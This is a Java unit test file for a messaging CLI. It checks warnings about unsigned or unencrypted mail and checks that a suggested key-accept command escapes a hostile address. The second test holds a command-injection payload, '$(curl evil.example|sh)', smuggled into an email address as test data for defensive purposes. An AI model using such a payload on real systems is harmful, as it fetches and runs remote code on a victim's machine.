package org.imxp.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.imxp.endpoint.SendOptions;
import org.imxp.endpoint.keys.KeyException;
import org.imxp.endpoint.keys.KeyRing;
import org.imxp.endpoint.keys.Outgoing;
import org.imxp.message.Message;
import org.imxp.protocol.Address;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What a person is told of keys. */
final class SecrecyTest {
    private static final Address FRED = Address.parse("fred@example.com");
    private static final Address WILMA = Address.parse("wilma@example.com");

    @TempDir
    private static Path folder = Path.of("");

    private static Optional<Stage> stage = Optional.empty();

    @TempDir
    private Path home = Path.of("");

    private final List<String> told = new ArrayList<>();

    @BeforeAll
    static void begin() {
        var built = new Stage(new Trial(folder).surroundings(new Trial.Run()), _ -> {}, (_, _) -> Optional.empty());
        stage = Optional.of(built);
        built.startRelays();
        List.of("fred", "wilma").forEach(name -> {
            built.addAccount(name);
            built.attach(name);
        });
    }

    @AfterAll
    static void end() {
        stage.ifPresent(Stage::close);
    }

    private static Actor actor(Address who) {
        return stage.orElseThrow().actor(who.local());
    }

    private Secrecy secrecy(Path where) {
        return Secrecy.of(actor(FRED).endpoint(), Optional.of(new ClientHome(where)), Optional.empty(), told::add);
    }

    @Test
    void thatAnAnswerIsNotEncryptedIsToldToWhoWasToldThatTheQuestionWasNotSigned() {
        var secrecy = secrecy(home);
        var _ = actor(WILMA).send(SendOptions.DEFAULT, Message.text("Where is the treasure?"), FRED.toString());
        var _ = secrecy.open(actor(FRED).receive());
        assertThat(told)
                .containsExactly("What wilma@example.com writes is not signed, and anybody on the way can read it.");
        var answer = Message.text("Below the quarry");
        assertThat(secrecy.seal(SendOptions.DEFAULT, answer, List.of(WILMA)))
                .isEqualTo(new Outgoing.Plain(answer, List.of(WILMA)));
        assertThat(told).hasSize(2);
        assertThat(told.getLast()).startsWith("No key of wilma@example.com was found: the message is not encrypted.");
        var _ = secrecy.seal(SendOptions.DEFAULT, answer, List.of(WILMA));
        assertThat(told).hasSize(2);
    }

    @Test
    void theCommandThatIsSuggestedIsSafeToCopy() {
        var odd = Address.parse("$(curl evil.example|sh)';x@example.com");
        var environment = actor(FRED).endpoint().environment();
        var ring = new KeyRing(FRED, home, environment.clock(), environment.random());
        for (var other : List.of("one", "two")) {
            var theirs = new KeyRing(odd, home.resolve(other), environment.clock(), environment.random());
            ring.learn(odd, theirs.own().certificate());
        }
        var shown = "$%28curl%20evil.example%7Csh%29%27%3Bx@example.com";
        assertThatThrownBy(() -> secrecy(home).seal(SendOptions.DEFAULT, Message.text("Hello"), List.of(odd)))
                .isInstanceOf(KeyException.class)
                .hasMessageContaining("THE KEY OF '" + shown + "' HAS CHANGED")
                .hasMessageEndingWith("./imxp key accept --as fred@example.com '" + shown + "'");
    }
}
